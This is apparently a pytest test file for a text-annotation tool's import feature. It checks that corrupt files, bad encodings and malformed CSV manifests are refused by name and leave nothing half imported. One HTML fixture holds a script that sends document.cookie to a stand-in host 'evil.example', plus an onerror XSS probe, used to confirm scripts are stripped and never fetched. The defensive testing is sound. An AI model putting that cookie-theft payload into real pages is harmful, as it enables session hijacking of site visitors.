"""Broken or hostile files given to import: a message naming the file, and nothing half imported.

Both import paths are driven: ``services.importing.import_files`` (what the window
calls) and the ``cisannotate import`` command. After every refusal the
project's documents, source lines and search index are counted again.
"""

from __future__ import annotations

import socket
import sqlite3
from pathlib import Path

import pytest

from cisannotate.cli import run
from cisannotate.io.textfile import ImportProblem
from cisannotate.storage import Store
from cisannotate.services.importing import import_files

GOOD_ARTICLE = "The minister said the border would stay closed.\n\nCritics were not convinced."
GOOD_TRANSCRIPT = "MINISTER: Good morning. The border will stay closed.\n\nWe will act. Questions?"


def counts(store: Store) -> tuple[int, int, int]:
    """Documents, source lines and rows of the search index: a half import shows in one of them."""
    return tuple(
        store.db.execute(f"SELECT count(*) FROM {table}").fetchone()[0]
        for table in ("documents", "source_lines", "documents_fts_docsize")
    )


def assert_whole(store: Store) -> None:
    """Every document has its search-index row, and every transcript its source lines."""
    orphans = store.db.execute(
        "SELECT count(*) FROM documents d WHERE NOT EXISTS (SELECT 1 FROM documents_fts_docsize f WHERE f.id = d.rowid) "
        "OR (d.kind = 'transcript' AND NOT EXISTS (SELECT 1 FROM source_lines l WHERE l.document_id = d.id))"
    ).fetchone()[0]
    assert orphans == 0


@pytest.fixture
def project(tmp_path):
    path = tmp_path / "p.cisannotate"
    store = Store.open(path)
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "good.txt").write_text(GOOD_ARTICLE, encoding="utf-8")
    report = import_files(store, [tmp_path / "in" / "good.txt"])
    assert len(report.added) == 1
    yield store
    store.close()


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    """Import never fetches anything: a page's remote images and scripts stay remote."""

    def refuse(*args, **kwargs):
        raise AssertionError("import tried to use the network")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


def refused(store: Store, path: Path, *words: str, **options) -> str:
    before = counts(store)
    report = import_files(store, [path], **options)
    assert report.added == [] and len(report.problems) == 1, report
    message = report.problems[0]
    assert path.name in message
    for word in words:
        assert word in message
    assert counts(store) == before
    assert_whole(store)
    return message


BAD_FILES = {
    "photo.txt": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 64,
    "report.txt": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(range(256)) * 16,
    "article.docx": b"PK\x03\x04" + bytes(200),
    "noise.txt": bytes((i * 7919 + 13) % 256 for i in range(50_000)),
    "empty.txt": b"",
    "blank.txt": b"   \n\t\n  \r\n",
    "nul.txt": b"\x00" * 4096,
}


@pytest.mark.parametrize("name", sorted(BAD_FILES))
def test_files_that_are_not_text(project, tmp_path, name):
    path = tmp_path / name
    path.write_bytes(BAD_FILES[name])
    refused(project, path)


def test_undecodable_in_the_named_encoding(project, tmp_path):
    path = tmp_path / "latin.txt"
    path.write_bytes("Die Grenze bleibt geschlossen, sagte der Minister: «Schluss».".encode("cp1252"))
    refused(project, path, "utf-8", encoding="utf-8")


def test_unknown_encoding(project, tmp_path):
    path = tmp_path / "a.txt"
    path.write_text(GOOD_TRANSCRIPT)
    refused(project, path, "unknown encoding", encoding="klingon-8")


def test_a_page_without_visible_text(project, tmp_path):
    path = tmp_path / "app.html"
    path.write_text("<html><head><title>App</title><script>document.write('hi')</script></head>"
                    "<body><script src='https://tracker.example/t.js'></script><noscript></noscript></body></html>")
    refused(project, path, "no visible text")


def test_scripts_styles_and_remote_images_are_not_imported_or_fetched(project, tmp_path):
    path = tmp_path / "story.html"
    path.write_text(
        "<!doctype html><html><head><title>Story</title><style>p{color:red}</style>"
        "<script>fetch('https://evil.example/steal?c='+document.cookie)</script></head><body>"
        "<img src='https://cdn.example/photo.jpg' onerror='alert(1)'>"
        "<img src='data:image/png;base64," + "A" * 2_000_000 + "'>"
        "<p>The minister <b>said</b> the border would stay closed.</p>"
        "<iframe src='https://ads.example/'>ad text</iframe><p>Critics disagreed.</p></body></html>",
        encoding="utf-8",
    )
    report = import_files(project, [path])
    assert report.problems == [] and len(report.added) == 1
    text = project.text(report.added[0].id)
    assert text == "The minister said the border would stay closed.\n\nCritics disagreed."
    assert_whole(project)


def test_a_huge_single_line_is_imported_whole_or_not_at_all(project, tmp_path):
    path = tmp_path / "oneline.txt"
    line = ("word " * 4_200_000).strip()  # 21 MB, no line break
    path.write_text(line)
    before = counts(project)
    report = import_files(project, [path], kind="transcript")  # its speed: `make bench` (text)
    if report.added:
        (doc,) = report.added
        assert project.text(doc.id) == line and doc.source_lines >= 1
        assert counts(project)[0] == before[0] + 1
    else:
        assert path.name in report.problems[0] and counts(project) == before
    assert_whole(project)


def test_a_file_over_the_size_limit(project, tmp_path, monkeypatch):
    from cisannotate.io import textfile

    monkeypatch.setattr(textfile, "MAX_BYTES", 1000)
    path = tmp_path / "big.txt"
    path.write_text("word " * 1000)
    refused(project, path, "limit")


MANIFESTS = {
    "kind.csv": ("file,kind,title\nnew.txt,podcast,A podcast\n", "podcast"),
    "json.csv": ('{"file": "new.txt", "kind": "article"}\n', "'file'"),
    "binary.csv": (b"\xff\xfe\x00\x01garbage\x00".decode("latin-1"), "UTF-8"),
    "huge-cell.csv": ("file,title\nnew.txt," + "T" * 3_000_000 + "\n", "CSV"),
    "twice.csv": ("file,title,title\nnew.txt,a,b\n", "twice"),
    "empty.csv": ("", "empty"),
}


@pytest.mark.parametrize("name", sorted(MANIFESTS))
def test_broken_manifests(project, tmp_path, name):
    content, word = MANIFESTS[name]
    manifest = tmp_path / name
    manifest.write_bytes(content.encode("latin-1") if name == "binary.csv" else content.encode("utf-8"))
    (tmp_path / "new.txt").write_text(GOOD_TRANSCRIPT)
    before = counts(project)
    with pytest.raises(ImportProblem) as problem:
        import_files(project, [tmp_path / "new.txt"], manifest=manifest)
    assert name in str(problem.value) and word in str(problem.value)
    assert counts(project) == before


def test_a_folder_with_good_and_bad_files_imports_the_good_ones_whole(project, tmp_path):
    folder = tmp_path / "mixed"
    folder.mkdir()
    (folder / "t.txt").write_text(GOOD_TRANSCRIPT)
    (folder / "b.txt").write_bytes(BAD_FILES["noise.txt"])
    (folder / "e.html").write_text("<html><body><script>x()</script></body></html>")
    (folder / "a.htm").write_text("<p>Another <i>article</i> about the border.</p>")
    before = counts(project)
    report = import_files(project, [folder], kind="transcript")
    assert sorted(d.source_file for d in report.added) == ["a.htm", "t.txt"]
    assert sorted(m.split(":")[0] for m in report.problems) == ["b.txt", "e.html"]
    assert counts(project)[0] == before[0] + 2
    assert_whole(project)


def test_a_write_failing_mid_import_leaves_no_half_import(project, tmp_path, monkeypatch):
    """The store refuses (here: a fault injected into the second file's source lines) and the whole import goes."""
    (tmp_path / "t1.txt").write_text(GOOD_TRANSCRIPT)
    (tmp_path / "t2.txt").write_text(GOOD_TRANSCRIPT.replace("Questions?", "No questions."))
    real = project.db.conn
    writes: list[str] = []

    class FailingLines:
        """The connection, except that writing the second transcript's lines fails."""

        def __getattr__(self, name):
            return getattr(real, name)

        def executemany(self, sql, rows):
            if "source_lines" in sql:
                writes.append(sql)
                if len(writes) == 2:
                    raise sqlite3.OperationalError("disk I/O error")
            return real.executemany(sql, rows)

    monkeypatch.setattr(project.db, "conn", FailingLines())
    before = counts(project)
    with pytest.raises(sqlite3.OperationalError):
        import_files(project, [tmp_path / "t1.txt", tmp_path / "t2.txt"], kind="transcript")
    monkeypatch.undo()
    assert counts(project) == before  # one transaction: neither t1 nor t2
    assert [d.source_file for d in project.documents() if d.source_file in ("t1.txt", "t2.txt")] == []
    assert_whole(project)


# ---------------------------------------------------------------- the command line
def cli_import(capsys, project: Path, *args: str) -> tuple[int, str, str]:
    code = run(["import", str(project), *args])
    out, err = capsys.readouterr()
    return code, out, err


def document_count(path: Path) -> int:
    store = Store.open(path, read_only=True)
    try:
        return len(store.documents())
    finally:
        store.close()


def test_cli_reports_each_bad_file_by_name_and_imports_the_rest(tmp_path, capsys):
    project = tmp_path / "cli.cisannotate"
    for name, content in BAD_FILES.items():
        (tmp_path / name).write_bytes(content)
    (tmp_path / "good.txt").write_text(GOOD_ARTICLE)
    code, out, err = cli_import(capsys, project, *(str(tmp_path / n) for n in [*BAD_FILES, "good.txt"]))
    assert code == 1
    for name in BAD_FILES:
        assert name in err
    assert "Traceback" not in err
    assert f"1 imported, 0 already present, {len(BAD_FILES)} failed" in out
    assert document_count(project) == 1


def test_cli_refuses_a_missing_manifest(tmp_path, capsys):
    project = tmp_path / "cli.cisannotate"
    (tmp_path / "good.txt").write_text(GOOD_ARTICLE)
    code, out, err = cli_import(capsys, project, str(tmp_path / "good.txt"), "--manifest", str(tmp_path / "no.csv"))
    assert code == 1 and "no.csv" in err


def test_cli_reports_a_broken_manifest_without_a_traceback(tmp_path, capsys):
    project = tmp_path / "cli.cisannotate"
    (tmp_path / "good.txt").write_text(GOOD_ARTICLE)
    manifest = tmp_path / "m.csv"
    manifest.write_text("file,kind\ngood.txt,podcast\n")
    code, out, err = cli_import(capsys, project, str(tmp_path / "good.txt"), "--manifest", str(manifest))
    assert code == 1 and "m.csv" in err and "podcast" in err and "row 2" in err
    assert "Traceback" not in err and out == ""
    assert not project.exists()  # the manifest is checked before the project is created


@pytest.mark.parametrize("name", sorted(MANIFESTS))
def test_cli_refuses_broken_manifests_and_leaves_an_existing_project_alone(project, tmp_path, capsys, name):
    content, word = MANIFESTS[name]
    manifest = tmp_path / name
    manifest.write_bytes(content.encode("latin-1") if name == "binary.csv" else content.encode("utf-8"))
    (tmp_path / "new.txt").write_text(GOOD_TRANSCRIPT)
    before = counts(project)
    code, out, err = cli_import(capsys, project.path, str(tmp_path / "new.txt"), "--manifest", str(manifest))
    assert code == 1 and out == ""
    assert name in err and word in err and "nothing was imported" in err
    assert counts(project) == before
